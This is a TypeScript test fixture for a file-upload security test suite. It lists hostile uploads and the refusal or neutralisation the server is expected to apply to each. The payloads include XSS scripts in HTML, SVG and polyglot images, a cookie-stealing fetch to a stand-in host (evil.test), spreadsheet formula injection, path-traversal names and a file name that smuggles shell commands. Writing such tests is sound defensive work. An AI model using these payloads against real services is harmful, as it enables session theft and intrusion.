// Hostile uploads for the upload gauntlet: what each file really is, what it claims to be, and
// what the server must do with it: refuse it with a stable problem code, or keep it in a form
// that cannot hurt whoever downloads it (a safe name, the sniffed type, served as an
// attachment with nosniff).

/** Types the server may store: decided from the bytes, never from the name or the claim. */
export const storableTypes = [
  'image/png',
  'image/jpeg',
  'image/gif',
  'image/webp',
  'application/pdf',
  'text/plain',
  'text/csv',
] as const;
export type StorableType = (typeof storableTypes)[number];

/** Extensions a stored name may end with, per stored type. */
export const extensionsOf: Record<StorableType, readonly string[]> = {
  'image/png': ['png'],
  'image/jpeg': ['jpg', 'jpeg'],
  'image/gif': ['gif'],
  'image/webp': ['webp'],
  'application/pdf': ['pdf'],
  'text/plain': ['txt', 'log', 'text', 'md'],
  'text/csv': ['csv'],
};

export type Expectation =
  | { refused: 'unsupported_media_type' | 'payload_too_large' | 'validation_failed' }
  | { neutralised: StorableType };

/** One upload: a file sent with FormData, or a hand-made multipart body (raw name bytes). */
export interface UploadCase {
  probe: string;
  bytes: Uint8Array<ArrayBuffer>;
  name: string;
  declaredType: string;
  /** Send the name as these raw bytes in the multipart header instead of FormData's escaping. */
  rawName?: Uint8Array<ArrayBuffer>;
  expect: Expectation;
}

const encoder = new TextEncoder();

export function bytesOf(...parts: (string | number[] | Uint8Array)[]): Uint8Array<ArrayBuffer> {
  const chunks = parts.map((part) =>
    typeof part === 'string' ? encoder.encode(part) : Uint8Array.from(part),
  );
  const out = new Uint8Array(chunks.reduce((sum, chunk) => sum + chunk.length, 0));
  let offset = 0;
  for (const chunk of chunks) {
    out.set(chunk, offset);
    offset += chunk.length;
  }
  return out;
}

const pngSignature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
// A 1×1 PNG's chunks, enough for an image viewer; the CRCs do not matter to the server.
const ihdr = [0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0, 0, 0];
const iend = [0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82];

/** A small PNG, optionally with bytes smuggled after its end. */
export function png(after: string | Uint8Array = ''): Uint8Array<ArrayBuffer> {
  return bytesOf(pngSignature, ihdr, iend, after);
}

const html = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="9"/></svg>';
const pe = bytesOf('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0], new Uint8Array(56), 'PE\0\0', [0x4c, 1]);
const zip = bytesOf('PK', [3, 4, 20, 0, 0, 0, 8, 0], 'evil.html', [0, 0xff, 0xfe]);
const js = 'fetch("https://evil.test/?c="+document.cookie)';

const refusedAs = (code: 'unsupported_media_type') => ({ refused: code }) as const;
const kept = (type: StorableType) => ({ neutralised: type }) as const;

/** Content whose bytes are not what the name or the declared type say. */
export const contentCases: readonly UploadCase[] = [
  {
    probe: 'HTML declared as image/png',
    bytes: bytesOf(html),
    name: 'photo.png',
    declaredType: 'image/png',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'HTML renamed .jpg, upper case tags',
    bytes: bytesOf('<HTML><SCRIPT>alert(1)</SCRIPT>'),
    name: 'photo.jpg',
    declaredType: 'image/jpeg',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'HTML after a byte order mark and blanks',
    bytes: bytesOf('\uFEFF  \n<body onload=alert(1)>'),
    name: 'scan.png',
    declaredType: 'image/png',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'HTML comment opening a file',
    bytes: bytesOf('<!-- x --><img src=x onerror=alert(1)>'),
    name: 'notes.txt',
    declaredType: 'text/plain',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'HTML in UTF-16',
    bytes: bytesOf(
      [0xff, 0xfe],
      [...'<html><script>'].flatMap((c) => [c.charCodeAt(0), 0]),
    ),
    name: 'page.png',
    declaredType: 'image/png',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'SVG with a script renamed .png',
    bytes: bytesOf(svg),
    name: 'logo.png',
    declaredType: 'image/png',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'SVG behind an XML prolog and a comment',
    bytes: bytesOf(`<?xml version="1.0"?>\n<!DOCTYPE svg>\n${svg}`),
    name: 'logo.jpg',
    declaredType: 'image/svg+xml',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'XHTML declared as XML',
    bytes: bytesOf('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>'),
    name: 'data.xml',
    declaredType: 'application/xml',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'Windows executable (PE) declared as image/png',
    bytes: pe,
    name: 'setup.png',
    declaredType: 'image/png',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'ZIP archive renamed .jpg',
    bytes: zip,
    name: 'holiday.jpg',
    declaredType: 'image/jpeg',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'text with a NUL byte (binary)',
    bytes: bytesOf('looks like text\0but is not'),
    name: 'log.txt',
    declaredType: 'text/plain',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'invalid UTF-8',
    bytes: bytesOf('abc', [0xc3, 0x28, 0xa0, 0xa1]),
    name: 'notes.txt',
    declaredType: 'text/plain',
    expect: refusedAs('unsupported_media_type'),
  },
  {
    probe: 'JavaScript declared as image/png',
    bytes: bytesOf(js),
    name: 'pixel.png',
    declaredType: 'image/png',
    expect: kept('text/plain'),
  },
  {
    probe: 'JavaScript named .js',
    bytes: bytesOf(js),
    name: 'app.js',
    declaredType: 'text/javascript',
    expect: kept('text/plain'),
  },
  {
    probe: 'GIF/JavaScript polyglot',
    bytes: bytesOf('GIF89a/*', [1, 0, 1, 0, 0, 0, 0], '*/=1;', js, '//'),
    name: 'anim.gif',
    declaredType: 'image/gif',
    expect: kept('image/gif'),
  },
  {
    probe: 'PNG with HTML after IEND',
    bytes: png(html),
    name: 'screenshot.png',
    declaredType: 'image/png',
    expect: kept('image/png'),
  },
  {
    probe: 'PNG with HTML after IEND, named .html',
    bytes: png(html),
    name: 'screenshot.html',
    declaredType: 'text/html',
    expect: kept('image/png'),
  },
  {
    probe: 'JPEG with a script in a comment segment',
    bytes: bytesOf([0xff, 0xd8, 0xff, 0xfe, 0, 40], `<script>${js}</script>`, [0xff, 0xd9]),
    name: 'photo.jpg',
    declaredType: 'image/jpeg',
    expect: kept('image/jpeg'),
  },
  {
    probe: 'PDF/HTML polyglot',
    bytes: bytesOf('%PDF-1.4\n', html, '\n%%EOF'),
    name: 'invoice.pdf',
    declaredType: 'application/pdf',
    expect: kept('application/pdf'),
  },
  {
    probe: 'WebP header with HTML inside',
    bytes: bytesOf('RIFF', [64, 0, 0, 0], 'WEBPVP8 ', html),
    name: 'image.webp',
    declaredType: 'image/webp',
    expect: kept('image/webp'),
  },
  {
    probe: 'PNG bytes declared as text/html',
    bytes: png(),
    name: 'page.html',
    declaredType: 'text/html',
    expect: kept('image/png'),
  },
  {
    probe: 'markup beyond the sniffed head of a text file',
    bytes: bytesOf('log line\n'.repeat(600), html),
    name: 'server.log',
    declaredType: 'text/plain',
    expect: kept('text/plain'),
  },
  {
    probe: 'CSV with spreadsheet formulas',
    bytes: bytesOf('name,total\n=HYPERLINK("https://evil.test"),=1+1\n'),
    name: 'export.csv',
    declaredType: 'text/csv',
    expect: kept('text/csv'),
  },
  {
    probe: 'Markdown with a javascript: link',
    bytes: bytesOf('[open](javascript:alert(1))\n'),
    name: 'README.md',
    declaredType: 'text/markdown',
    expect: kept('text/plain'),
  },
];

/** Hostile names on harmless content (a PNG): each must be stored under a safe name. */
export const nameCases: readonly UploadCase[] = [
  ['NUL in the name', 'photo\0.html.png'],
  ['right-to-left override (exe spoof)', 'invoice\u202Egnp.exe'],
  ['right-to-left override before the extension', 'report\u202Efdp.png'],
  ['bidi isolates and marks', '\u2067photo\u2069\u200F.png'],
  ['zero-width characters', 'ph\u200Bo\u200Dto\uFEFF.png'],
  ['C0 and C1 control characters', 'a\u0001b\u001bc\u0085d\u009be.png'],
  ['line separators', 'a\u2028b\u2029c.png'],
  ['path traversal, slash', '../../../../etc/passwd.png'],
  ['path traversal, backslash', '..\\..\\..\\Windows\\System32\\evil.png'],
  ['absolute POSIX path', '/etc/cron.d/evil.png'],
  ['absolute Windows path', 'C:\\Windows\\evil.png'],
  ['UNC path', '\\\\server\\share\\evil.png'],
  ['URL-encoded traversal', '%2e%2e%2f%2e%2e%2fetc%2fpasswd.png'],
  ['double URL-encoded traversal', '%252e%252e%252fevil.png'],
  ['only dots', '..'],
  ['hidden file', '.htaccess'],
  ['only blanks', '   '],
  ['double extension', 'photo.png.html'],
  ['header injection', 'a"; filename="evil.html'],
  ['CRLF header injection', 'a\r\nContent-Type: text/html\r\n\r\n<script>.png'],
  ['shell metacharacters', '$(reboot);`id`|x&.png'],
  ['very long name', `${'a'.repeat(5000)}.png`],
  ['long name of astral characters', `${'😀'.repeat(200)}.png`],
  ['surrogate pair cut at the length limit', `${'a'.repeat(119)}😀😀.png`],
  ['Windows reserved name', 'CON.png'],
  ['emoji ZWJ name', '👩‍👩‍👧‍👦 famille.png'],
].map(
  ([probe, name]): UploadCase => ({
    probe: probe as string,
    bytes: png(),
    name: name as string,
    declaredType: 'image/png',
    expect: kept('image/png'),
  }),
);

/** Names a browser's FormData would escape, sent as raw bytes in the multipart header. */
export const rawNameCases: readonly UploadCase[] = [
  ['raw NUL byte', bytesOf('evil', [0], '.html.png')],
  ['raw right-to-left override', bytesOf('invoice', [0xe2, 0x80, 0xae], 'gnp.exe')],
  ['raw invalid UTF-8', bytesOf('bad', [0xc3, 0x28, 0xff], '.png')],
  ['raw lone surrogate (CESU-8)', bytesOf('half', [0xed, 0xa0, 0x80], '.png')],
  ['raw backslash path', bytesOf('..\\..\\evil.png')],
].map(
  ([probe, rawName]): UploadCase => ({
    probe: probe as string,
    bytes: png(),
    name: '',
    declaredType: 'image/png',
    rawName: rawName as Uint8Array<ArrayBuffer>,
    expect: kept('image/png'),
  }),
);

/**
 * A multipart/form-data body with one file whose name is given as raw bytes.
 *
 * @example
 * const { body, contentType } = multipart(bytesOf('a.png'), png(), 'image/png');
 */
export function multipart(
  rawName: Uint8Array,
  content: Uint8Array,
  type: string,
): { body: Uint8Array<ArrayBuffer>; contentType: string } {
  const boundary = `----aide-gauntlet-${Math.random().toString(16).slice(2)}`;
  const body = bytesOf(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="`,
    rawName,
    `"\r\nContent-Type: ${type}\r\n\r\n`,
    content,
    `\r\n--${boundary}--\r\n`,
  );
  return { body, contentType: `multipart/form-data; boundary=${boundary}` };
}

// Characters that have no business in a stored file name: controls, format characters (bidi
// overrides, zero-width), unpaired surrogates, line separators, path separators, quotes.
const unsafeInName = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}/\\"]/u;

/**
 * Why a stored name is unsafe to show or to save under, or null when it is safe for its type.
 *
 * @example
 * nameProblem('photo.png', 'image/png'); // null
 */
export function nameProblem(name: string, type: StorableType): string | null {
  if (unsafeInName.test(name)) {
    return 'contains a control, format, separator or path character';
  }
  if (name.startsWith('.') || name.trim() !== name || name === '') {
    return 'hidden, blank or padded';
  }
  if ([...name].length > 130) {
    return 'longer than 130 characters';
  }
  const extension = /\.([a-z0-9]+)$/i.exec(name)?.[1]?.toLowerCase();
  if (extension === undefined || !extensionsOf[type].includes(extension)) {
    return `extension .${extension ?? ''} does not match ${type}`;
  }
  return null;
}
